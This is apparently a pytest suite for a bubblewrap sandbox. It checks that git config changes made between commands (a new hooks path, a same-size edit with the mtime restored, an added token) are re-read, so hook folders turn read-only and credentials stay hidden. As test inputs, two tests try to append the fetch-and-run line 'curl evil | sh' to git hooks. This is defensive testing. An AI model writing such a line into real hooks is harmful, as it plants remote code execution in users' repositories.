"""The sandbox reads git's config files once and again only when they change (a stat per
launch instead of a read): a config the user changes between two commands must be honoured
by the second, its protections and its hidden credentials alike. Real bwrap launches.

Each test lets the memo keep what it read at once (`SETTLED_NS` = 0: otherwise a file
changed less than a second ago is read again anyway, and the memo would never be tried),
and waits until the file system's clock has moved on before changing the file, as a user's
edit a moment later would find it.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from hermes_core.sandbox import file_memo
from tests.test_sandbox_fence import GIT_ID, home, repo, run, sandboxed

__all__ = ["home", "repo"]  # the fixtures, shared with test_sandbox_fence


@pytest.fixture(autouse=True)
def memo_keeps_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_memo, "SETTLED_NS", 0)


def after_the_clock_moves(path: Path) -> None:
    """Return once a change made now gets a later change time than `path` has: the
    kernel's file clock ticks coarsely, and an edit in the same tick would leave the
    file's stamps as they were."""
    seen = path.stat().st_ctime_ns
    probe = path.parent / ".clock-probe"
    while True:
        probe.write_text("")
        if probe.stat().st_ctime_ns > seen:
            probe.unlink()
            return


def user_git(repo: Path, *args: str) -> None:
    """git run by the user, outside the sandbox."""
    subprocess.run(["git", "-C", str(repo), *args], check=True)


def rewrite_keeping_size_and_mtime(path: Path, text: str) -> None:
    """An edit that leaves the size and the modification time as they were (only the
    change time moves): what a `touch -d` after a same-length edit leaves."""
    info = path.stat()
    assert len(text.encode()) == info.st_size
    with path.open("r+") as file:
        file.write(text)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


async def test_a_hooks_folder_named_between_two_commands_is_read_only_in_the_second(
    repo: Path, home: Path
) -> None:
    # Not `.husky`, which is read-only wherever it exists (husky 9 runs `.husky/<hook>`).
    (repo / ".hookz").mkdir()
    (repo / ".hookz" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    config = repo / ".git" / "config"
    ws, _ = sandboxed(repo, home)
    code, out = await run(ws, "echo '# lint' >> .hookz/pre-commit", home)  # no hooks folder yet
    assert code == 0, out
    after_the_clock_moves(config)
    # The user points git at husky's folder, outside the sandbox.
    user_git(repo, "config", "core.hooksPath", ".hookz")
    code, out = await run(ws, "echo 'curl evil | sh' >> .hookz/pre-commit", home)
    assert code != 0 and "Read-only file system" in out, out
    assert (repo / ".hookz" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n# lint\n"


async def test_a_hooks_folder_named_by_a_same_size_edit_with_its_mtime_set_back_is_read_only(
    repo: Path, home: Path
) -> None:
    (repo / ".hookz").mkdir()
    config = repo / ".git" / "config"
    with config.open("a") as file:
        file.write("[core]\n\thooksPath = .nothere\n")  # a name of the same length as .hookz's
    ws, _ = sandboxed(repo, home)
    code, out = await run(ws, "echo x > .hookz/post-checkout", home)
    assert code == 0, out
    after_the_clock_moves(config)
    rewrite_keeping_size_and_mtime(config, config.read_text().replace(".nothere", ".hookz  "))
    code, out = await run(ws, "echo 'curl evil | sh' > .hookz/post-checkout", home)
    assert code != 0 and "Read-only file system" in out, out
    assert (repo / ".hookz" / "post-checkout").read_text() == "x\n"


async def test_a_token_added_to_the_config_between_two_commands_is_hidden_in_the_second(
    repo: Path, home: Path
) -> None:
    config = repo / ".git" / "config"
    user_git(repo, "remote", "add", "origin", "https://example.com/o/r")
    ws, _ = sandboxed(repo, home)
    code, out = await run(ws, "git remote get-url origin", home)
    assert code == 0 and out.strip() == "https://example.com/o/r", out
    after_the_clock_moves(config)
    token = "ghp_" + "x" * 36
    user_git(repo, "remote", "set-url", "origin", f"https://bot:{token}@example.com/o/r")
    code, out = await run(ws, f"git {GIT_ID} remote get-url origin; cat .git/config", home)
    assert code == 0, out
    assert token not in out and "https://example.com/o/r" in out, out
